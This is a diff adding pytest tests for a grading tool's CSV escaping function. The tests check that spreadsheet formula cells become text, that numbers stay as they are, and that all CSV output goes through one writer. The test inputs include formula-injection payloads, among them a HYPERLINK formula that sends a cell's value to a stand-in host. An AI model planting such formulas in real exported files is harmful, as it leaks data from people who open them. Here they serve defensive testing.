@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 import sys
 import unicodedata
+from pathlib import Path
 
 import pytest
 from markdown_it import MarkdownIt
@@ -108,3 +112,39 @@ def test_json_escape_keeps_the_data():
     assert json.loads(text) == data
     assert "\x1b" not in text and "\u202e" not in text and "\x9b" not in text
     text.encode("utf-8")  # no lone surrogate left to crash a writer
+
+
+# --------------------------------------------------------------------------- CSV
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x/?"&A1,"y")', "+dave", "@SUM(1+1)", "-2+3", "-", "\tx", "\r=1", "\n=1", "＝1", "-1e5"]
+)
+def test_a_csv_text_cell_a_spreadsheet_would_run_becomes_text(text):
+    one_line = " ".join(text.split()) if "\n" in text or "\r" in text else text  # a row per record
+    assert escape.csv_cell(text) == "'" + one_line
+
+
+@pytest.mark.parametrize("value", ["-2", "17.5", "-0.25", "1001", "a=b", "Ana Lima", "ana@uni.edu", ""])
+def test_ids_numbers_and_plain_text_stay_as_they_are_in_csv(value):
+    assert escape.csv_cell(value) == value  # a negative number is a number, not a formula
+
+
+def test_csv_numbers_are_written_as_numbers_and_the_writer_round_trips():
+    numbers = (20.0, 12.75, -3, 0.0, -0.0, 1 / 3, None)
+    assert [escape.csv_cell(v) for v in numbers] == ["20", "12.75", "-3", "0", "0", "0.3333", ""]
+    rows = [["=1+1", 2.5, 'a "quoted", cell'], ["line\nbreak", -1, "-2+3"]]
+    back = list(csv.reader(io.StringIO(escape.csv_text(rows))))
+    assert back == [["'=1+1", "2.5", 'a "quoted", cell'], ["line break", "-1", "'-2+3"]]
+
+
+def test_every_csv_the_grader_writes_goes_through_the_one_writer():
+    """Issue 28 F: only gradebook.csv was neutralised, canvas.csv and grades.csv were not. One
+    writer (escape.csv_text) for every CSV file: no other module builds CSV rows itself."""
+    package = Path(escape.__file__).resolve().parents[1]
+    offenders = [
+        f"{path.relative_to(package)}:{number}"
+        for path in sorted(package.rglob("*.py"))
+        if path.name != "escape.py"
+        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
+        if re.search(r"\bcsv\.(writer|DictWriter)\b", line)
+    ]
+    assert not offenders, offenders
